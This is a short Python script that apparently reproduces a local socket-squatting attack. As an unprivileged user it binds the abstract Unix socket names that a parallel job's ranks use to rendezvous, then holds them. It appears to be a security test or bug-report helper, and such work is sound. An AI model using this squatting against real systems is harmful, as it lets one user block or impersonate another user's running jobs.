"""squat.py REPORTS: as another user, take the names by which the ranks of a job know who is held.

Prints 'taken' when it has them, and keeps them until its standard input ends. Needs root."""

import os
import socket
import sys

job = 14695981039346656037
for byte in sys.argv[1].encode():
    job = ((job ^ byte) * 1099511628211) & ((1 << 64) - 1)
user = os.getuid()
os.setgid(65534)
os.setuid(65534)
taken = []
for kind in "held", "turn", "told":
    for number in range(2):
        name = socket.socket(socket.AF_UNIX)
        name.bind(f"\0mpipp-{user}-{job:#x}-{kind}-{number}")
        name.listen(0)
        taken.append(name)
print("taken", flush=True)
sys.stdin.read()
